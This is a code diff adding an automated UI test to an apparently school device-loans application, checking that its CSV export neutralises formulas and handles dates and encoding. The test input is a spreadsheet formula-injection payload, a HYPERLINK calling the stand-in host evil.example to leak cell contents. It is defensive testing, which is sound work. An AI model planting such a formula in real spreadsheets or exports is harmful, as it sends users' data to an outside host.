@@ -287,3 +287,40 @@ async def test_an_office_lend_typed_at_80_by_24_for_a_class_everyone_may_photogr
     [loan] = devices.loans_report(school, by=COMMAND_LINE)
     assert (loan.device, loan.staff, loan.class_name, loan.purpose) == (
         "CAM-01 Class camera 1", "Maria Jones", "3C", "Harvest festival")
+
+
+async def test_the_export_opens_in_excel_as_text_and_the_review_shows_the_year_of_last_school_years_loans(
+        school, clock, tmp_path, monkeypatch):
+    """Spreadsheets out: a purpose typed as a formula is text in the saved file, which starts with a byte-order mark
+    (Excel reads Zoë right), times to the second; looking back from the next school year, times show their year."""
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    (tmp_path / "home" / "Documents").mkdir(parents=True)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Photos")'
+    clock.moment = datetime(2026, 11, 10, 9, 0, 12, 345678, tzinfo=LONDON)
+    devices.lend_device(school, "IPAD-01", "LPA", "4B", link)
+    at(clock, 10, 11)
+    devices.return_device(school, "IPAD-01", "LPA", 0)
+    clock.moment = datetime(2027, 9, 7, 9, 0, tzinfo=LONDON)  # a Tuesday in the next school year
+    app = build_app(school)
+    async with app.run_test(size=(120, 36)) as pilot:
+        await signed_in(pilot, "HTE", "5678")
+        await pilot.press("f11")
+        await settle(pilot)
+        await pilot.press("d")
+        await pilot.press(*"09/11/2026 15/11/2026", "enter")
+        await settle(pilot)
+        assert "Loans the week of 9–15 Nov 2026: 1 loan" in on_screen(app)
+        await pilot.press("d")
+        await pilot.press(*"01/11/2026 30/11/2026", "enter")  # more than a week: the day, and here the year
+        await settle(pilot)
+        [row] = table_rows(app)
+        assert (row[0], row[3], row[4]) == ("IPAD-01", "10 Nov 2026 09:00", "11:00")
+        await pilot.press("e")
+        await settle(pilot)
+    path = tmp_path / "home" / "Documents" / "device-loans-2026-11-01-to-2026-11-30.csv"
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfdevice,staff,class,purpose,out,")
+    with path.open(encoding="utf-8-sig", newline="") as saved:
+        [loan] = csv.DictReader(saved)
+    assert loan["purpose"] == f"'{link}" and loan["out"] == "2026-11-10T09:00:12+00:00"
+    assert (loan["returned"], loan["images"], loan["status"]) == ("2026-11-10T11:00:00+00:00", "0", "no images")
